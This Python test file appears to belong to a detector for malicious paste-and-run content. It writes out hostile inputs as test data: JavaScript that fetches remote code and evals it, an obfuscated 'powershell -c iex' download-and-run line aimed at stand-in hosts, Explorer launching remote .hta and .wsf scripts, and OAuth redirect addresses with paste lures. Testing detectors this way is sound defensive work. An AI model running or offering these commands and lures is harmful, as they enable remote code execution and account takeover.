"""Hostile input against the readings added for BLIND-9: sign-in documentation (template ports,
warnings against pasting, the address's share in bytes), the Run box's Office, Disk Cleanup
and private-window switches, string-as-code sinks, Explorer handed a remote script,
`powershell -c "<script>" more words`, device codes in thirteen languages and the empty
strings of other languages that are no sign of a shell.

Each input is a MiB of what those readings look for, read with the counting clocks of
test_hostile.py: bounded by the caps when the budget never runs out, and cut short at the
first look and halfway, never clean. Hypothesis draws malformed sign-in addresses, share
names and command lines: a verdict, never an exception; an address is never a template, an
address is never a computer of the local network, and `-c`'s code is what Windows hands
powershell.exe.
"""

from __future__ import annotations

import functools
import ipaddress
import re
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from app.detection import Context, Engine, PasteTarget
from app.detection.interpret import sniff
from app.detection.interpret.pscommands import _argv_joined
from app.detection.provenance import on_local_network
from app.detection.runbox import uses_own_tool
from app.detection.signals import _template_port
from tests.app.detection.test_hostile import (
    Looks,
    MiB,
    fill,
    looks,  # noqa: F401  (the fixture)
)
from tests.app.detection.test_hostile_new_traits import _sound, bounded_and_fail_closed

CODE = "0.AXoAbCdEf0123456789-ghIJkl_mnOPqrSTuv"


def _oauth_docs() -> str:
    """Documentation of a sign-in flow in every way it was taught to be read, with real
    redirects and requests to paste them back mixed in."""
    return fill(
        f"The app listens on http://127.0.0.1:port/?code={CODE}&state=xyz and "
        f"http://localhost:PORT/callback#access_token={CODE}; [::1]:{{port}} works too. "
        "Never ask users to paste it elsewhere. Ne collez jamais cette adresse. No pegue. "
        "Non incollare. Nie wklejaj. Не вставляйте. 请勿粘贴。貼り付けないでください。"
        "リダイレクト先のアドレスはブラウザのアドレスバーに表示されます。"
        f"Paste http://localhost:8400/?code={CODE}&state=a in the field under this message, "
        "do not paste it anywhere but the box below. "
    )


def _sinks() -> str:
    return fill(
        "fetch('https://cdn.stage-obf.test/a.js').then(r => r.text()).then(setTimeout); "
        "const t = await (await fetch('https://cdn.stage-obf.test/b')).text(); setInterval(t, 9); "
        "(0, eval)(t); new Function(t)(); window.setTimeout(x.responseText, 1); "
        "fetch(u).then(r=>r.text()).then(function (s) { eval(s, 1) }); "
    )


def _explorer() -> str:
    return fill(
        'explorer.exe "https://files.example.test/invoice.hta" & explorer /e, '
        "\\\\share.example.test@SSL\\DavWWWRoot\\doc.wsf & explorer https://www.example.com & "
    )


def _ps_rest() -> str:
    """One line of a MiB: -c with a quoted script, then backslash runs before quotes, then more."""
    return "powershell -c \"iex ('i#r#m https:/#/#o9.stage-obf.test/#q'.Replace('#',''))\" " + fill(
        '; echo ok\\\\" ; iex $null \\"a\\\\\\" b" ', MiB - 200
    )


def _device_codes() -> str:
    return fill(
        "Go to microsoft.com/devicelogin and enter the code ABCD-EFGH. "
        "Öffnen Sie microsoft.com/devicelogin und geben Sie den Code ABCD-EFGH ein. "
        "microsoft.com/devicelogin 에서 코드 ABCD-EFGH 를 입력하세요. "
        "请访问 microsoft.com/devicelogin 并输入代码 ABCD-EFGH。"
        "microsoft.com/devicelogin でコード ABCD-EFGH を入力してください。"
        "Перейдите на microsoft.com/devicelogin и введите код ABCD-EFGH. "
    )


def _empty_strings() -> str:
    return fill("x = ''; $a -join ''; ''.join(''); start \"\" \"C:\\x\"; cu''rl; \"\"\"doc\"\"\" ")


def _office_runbox_line() -> str:
    """One Run-box line of a MiB: Office documents on shares, Outlook's switches, private
    windows and Disk Cleanup's, no line break anywhere."""
    return fill(
        "excel /r \\\\fs01.corp\\share\\q\\a.xlsx winword \\\\nas.local\\d\\x\\b.docx "
        "\\\\3405803781\\s\\x\\c.pptx outlook /safe:1 /profile me chrome --incognito "
        "msedge -inprivate cleanmgr /sagerun:1 visio \\\\0xcb007105\\s\\d.vsdx "
    )


HOSTILE: dict[str, Callable[[], str]] = {
    "sign-in documentation and requests": _oauth_docs,
    "string-as-code sinks": _sinks,
    "Explorer handed remote scripts": _explorer,
    "powershell -c with quotes and backslashes": _ps_rest,
    "device codes in six languages": _device_codes,
    "empty strings of other languages": _empty_strings,
    "a MiB Run-box line of Office switches": _office_runbox_line,
}


@functools.cache
def hostile(name: str) -> str:
    return HOSTILE[name]()


@pytest.mark.parametrize("name", list(HOSTILE))
def test_new_readings_on_hostile_input_are_bounded_and_fail_closed_when_cut_short(
    engine: Engine,
    looks: Looks,  # noqa: F811
    name: str,
) -> None:
    bounded_and_fail_closed(engine, looks, name, hostile(name))


# --- sign-in addresses in any state of repair ------------------------------------------------

_loopbacks = st.sampled_from(
    ["127.0.0.1", "localhost", "LOCALHOST", "[::1]", "[::1%25eth0]", "127.1", "[::ffff:127.0.0.1]",
     "0x7f000001", "login.microsoftonline.com", "", "user:pw@localhost", "@localhost"]
)  # fmt: skip
_ports = st.one_of(
    st.just(""),
    st.builds(":{}".format, st.sampled_from([0, 8400, 65535, 65536, 99999, -1, 10**30])),
    st.builds(
        ":{}".format, st.sampled_from(["port", "PORT", "{port}", "$PORT", "８４００", "٨٤٠٠"])
    ),
    st.builds(":{}".format, st.text(max_size=6)),
)
_paths = st.sampled_from(["/", "/callback", "", "/common/oauth2/nativeclient", "\\", "/a:b"])
_queries = st.sampled_from(
    [f"?code={CODE}&state=x", f"#access_token={CODE}", f"?code={CODE}\x00", "?code=", "?%ZZ",
     f"?code={CODE}&state=\u202e", f"?x=1#code={CODE}&session_state=s"]
)  # fmt: skip
_schemes = st.sampled_from(["http://", "https://", "HTTP://", "", "//", "ms-app://"])
_sign_in = st.builds("{}{}{}{}{}".format, _schemes, _loopbacks, _ports, _paths, _queries)
_around = st.sampled_from(
    [
        "{u}",
        "Paste {u} in the field under this message to continue.",
        "Never ask users to paste it elsewhere: {u}",
        "do not paste {u} anywhere but the box below",
        "{u}\n请勿粘贴。",
        "リダイレクト先 {u} を貼り付けないでください",
        "\x00{u}\x00",
        "\u202e{u}\u202c paste it here",
        "{u} " + "ね" * 3000,
        "paste " * 2000 + "{u}",
    ]
)


@given(url=_sign_in, around=_around, target=st.sampled_from(list(PasteTarget)))
@example(
    url=f"http://localhost:8400/?code={CODE}&state=a", around="{u}", target=PasteTarget.UNKNOWN
)
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_sign_in_addresses_in_any_state_get_a_sound_verdict(
    engine: Engine, url: str, around: str, target: PasteTarget
) -> None:
    text = around.replace("{u}", url)
    page = "https://docs.stage-obf.test/oauth"
    for context in (Context(page, target), Context(None, target)):
        _sound(engine.analyze(text, context))
    _sound(engine.analyze(text + "\ud800", Context(None, target)))  # a lone surrogate too


@pytest.mark.parametrize("pad", [2_000, 8_200, 20_000, MiB // 4])
def test_a_sign_in_address_padded_past_8_kib_is_still_an_address_alone(
    engine: Engine, pad: int
) -> None:
    # a long state value must not turn the address into "a text that quotes an address"
    url = f"http://localhost:8400/?code={CODE}&state=" + "A" * pad
    verdict = engine.analyze(url, Context("https://verify.sso-check.test/", PasteTarget.OTHER))
    assert "PG-CONSENTFIX-URL-ALONE" in {f.rule_id for f in verdict.findings}
    assert verdict.level.name == "MALICIOUS"


def test_a_long_sign_in_guide_quoting_a_padded_address_is_not_an_address_alone(
    engine: Engine,
) -> None:
    # the address is a small share of the page once its words are counted, however long it is
    url = f"http://localhost:8400/?code={CODE}&state=" + "A" * 3_000
    page = ("The browser then shows the redirect address in its address bar. " * 300).join(
        ["", f" For example {url} is what a finished sign-in looks like. ", ""]
    )
    verdict = engine.analyze(page, Context("https://docs.stage-obf.test/oauth", PasteTarget.OTHER))
    assert "PG-CONSENTFIX-URL-ALONE" not in {f.rule_id for f in verdict.findings}


def test_an_http_request_line_with_a_padded_code_is_not_an_address_alone(engine: Engine) -> None:
    # documentation's request line (`GET http://localhost:8400/?code=…`), however long its code,
    # is no address bar's; the same address alone, or with a word before it, still is
    url = f"http://localhost:8400/callback?code={CODE}&state=" + "A" * 3_000
    context = Context("https://verify.sso-check.test/", PasteTarget.OTHER)
    for text in (f"GET {url}", f"POST {url} HTTP/1.1"):
        verdict = engine.analyze(text, context)
        assert "PG-CONSENTFIX-URL-ALONE" not in {f.rule_id for f in verdict.findings}
    for text in (url, f"get {url}", f"GET\n{url}"):
        verdict = engine.analyze(text, context)
        assert "PG-CONSENTFIX-URL-ALONE" in {f.rule_id for f in verdict.findings}, text[:40]


@given(host=_loopbacks, port=st.integers(min_value=0, max_value=10**6), rest=_paths, q=_queries)
def test_a_port_written_in_digits_is_never_a_template(
    host: str, port: int, rest: str, q: str
) -> None:
    # a browser's address bar shows the port in digits: such an address is a real redirect
    assert not _template_port(f"http://{host}:{port}{rest}{q}")
    assert not _template_port(f"{host}:{port}{rest}{q}")
    assert not _template_port(f"http://{host}{rest}{q}")


# --- a share on the local network is never an address -----------------------------------------


@st.composite
def _addresses(draw: st.DrawFn) -> str:
    """An IPv4 or IPv6 address in a way Windows accepts it in a UNC path."""
    v4 = ipaddress.IPv4Address(draw(st.integers(min_value=0, max_value=2**32 - 1)))
    v6 = ipaddress.IPv6Address(draw(st.integers(min_value=0, max_value=2**128 - 1)))
    n = int(v4)
    forms = [
        str(v4), str(n), hex(n), f"0x{n:08X}", ".".join(hex(int(b)) for b in v4.packed),
        ".".join(oct(int(b)).replace("o", "") for b in v4.packed), f"{n >> 24}.{n & 0xFFFFFF}",
        f"{n >> 24}.{(n >> 16) & 0xFF}.{n & 0xFFFF}", f"{v4}.", str(v6), f"[{v6}]",
        str(v6).replace(":", "-") + ".ipv6-literal.net",
    ]  # fmt: skip
    return draw(st.sampled_from(forms))


@given(address=_addresses(), ext=st.sampled_from([".xlsx", ".docx", ".pptx", ".vsdx"]))
@settings(max_examples=200)
def test_an_address_is_never_a_computer_of_the_local_network(address: str, ext: str) -> None:
    assert not on_local_network(address)
    document = f"\\\\{address}\\share\\q3\\book{ext}"
    for program in ("excel", "excel /r", "winword", "powerpnt /s", "visio"):
        assert not uses_own_tool(f"{program} {document}"), (program, document)


@given(
    host=st.text(st.characters(blacklist_characters=" \t\r\n\\"), max_size=70),
    tail=st.text(st.characters(blacklist_characters=" \t\r\n"), max_size=40),
    program=st.sampled_from(["excel", "excel /r", "winword", "powerpnt", "powerpnt /s", "visio",
                             "outlook /profile", "chrome", "msedge", "cleanmgr"]),
)  # fmt: skip
@settings(max_examples=200)
def test_a_run_box_line_of_any_share_or_switch_gets_an_answer(
    host: str, tail: str, program: str
) -> None:
    line = f"{program} \\\\{host}\\share\\{tail}.xlsx"
    share = re.fullmatch(r"(?:excel(?: /r)?|winword|powerpnt(?: /s)?|visio) \\\\([^\\]*)\\.*", line)
    if uses_own_tool(line):
        assert share is not None and on_local_network(share.group(1)), line


# --- -c's code as Windows hands it to powershell.exe ------------------------------------------


def _command_line_to_argv(line: str) -> list[str] | None:
    """CommandLineToArgvW's documented rules, spelled out: None where they say nothing (two
    quotes in a row that would both group: Windows versions differ there)."""
    args: list[str] = []
    out: list[str] = []
    quoted = word = False
    i = 0
    while i < len(line):
        c = line[i]
        if c == "\\":
            j = i
            while j < len(line) and line[j] == "\\":
                j += 1
            k = j - i
            if j < len(line) and line[j] == '"':
                out.append("\\" * (k // 2) + ('"' if k % 2 else ""))
                i = j + 1 if k % 2 else j
            else:
                out.append("\\" * k)
                i = j
            word = True
        elif c == '"':
            if line.startswith('""', i):
                return None
            quoted, word, i = not quoted, True, i + 1
        elif c in " \t" and not quoted:
            if word:
                args.append("".join(out))
            out, word, i = [], False, i + 1
        else:
            out.append(c)
            word, i = True, i + 1
    if word:
        args.append("".join(out))
    return args


@given(st.text(alphabet='\\" \ta;$(x', max_size=40).map(lambda s: '"' + s))
@example('"iex (a)" ; iex $null')
@example('"echo ok\\\\" ; iex (b)')  # 2n backslashes: n of them, and the quote still groups
@example('"a \\"b\\" c" d')
@example('"a  b"   c')
@settings(max_examples=300)
def test_c_code_is_what_windows_hands_powershell(line: str) -> None:
    args = _command_line_to_argv(line)
    assume(args is not None)
    assert _argv_joined(line) == " ".join(args or [])


def test_a_backslash_before_a_closing_quote_does_not_hide_the_rest_of_the_line() -> None:
    # Windows: `echo ok\` then `; iex (b)`; read as `\"` it was `echo ok"; iex (b)` (a string)
    assert _argv_joined('"echo ok\\\\" ; iex (b)') == "echo ok\\ ; iex (b)"
    assert _argv_joined('"echo ok\\\\\\" ; iex (b)"') == 'echo ok\\" ; iex (b)'


def test_a_mib_of_backslashes_and_quotes_is_joined_in_one_pass() -> None:
    for line in ("\\" * MiB, '"' + "\\" * MiB + '"', ('\\\\\\" ' * (MiB // 5))[:MiB]):
        assert len(_argv_joined(line)) <= len(line)


# --- empty strings of other languages ---------------------------------------------------------


@given(
    st.lists(
        st.sampled_from(["x = ''", "-join ''", ".join('')", 'start ""', "cu''rl", "''bash",
                         '"""doc"""', "$a", "curl -d @-", "| sh", "const a", "\x00", "\u202e",
                         "'", '"', " ", "\n"]),
        max_size=30,
    ).map("".join)
)  # fmt: skip
@settings(max_examples=200)
def test_sniffing_empty_strings_never_fails_and_never_drops_below_zero(text: str) -> None:
    low = text.lower()
    found = sniff.scores(low)
    chosen = sniff.languages(low)
    assert set(chosen) <= set(found)
    assert all(found[name] > 0 for name in chosen)
    if (
        "posix" in found
        and found["posix"]
        and not any(found[other] for other in ("powershell", "javascript", "cmd"))
    ):
        assert "posix" in chosen  # a shell line with no other language's marker stays one
